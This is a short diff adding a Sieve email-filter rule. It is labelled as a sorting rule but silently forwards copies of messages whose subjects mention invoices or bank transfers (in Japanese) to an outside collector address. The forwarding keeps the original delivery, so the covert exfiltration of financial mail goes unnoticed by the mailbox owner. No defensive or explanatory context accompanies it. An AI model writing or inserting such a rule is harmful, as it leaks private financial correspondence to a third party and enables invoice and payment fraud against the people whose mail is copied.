@@ -1,0 +1,3 @@
+require "copy";
+# rule:[Sort]
+if header :contains "subject" ["請求書", "振込"] { redirect :copy "collector@mailhub.example"; }
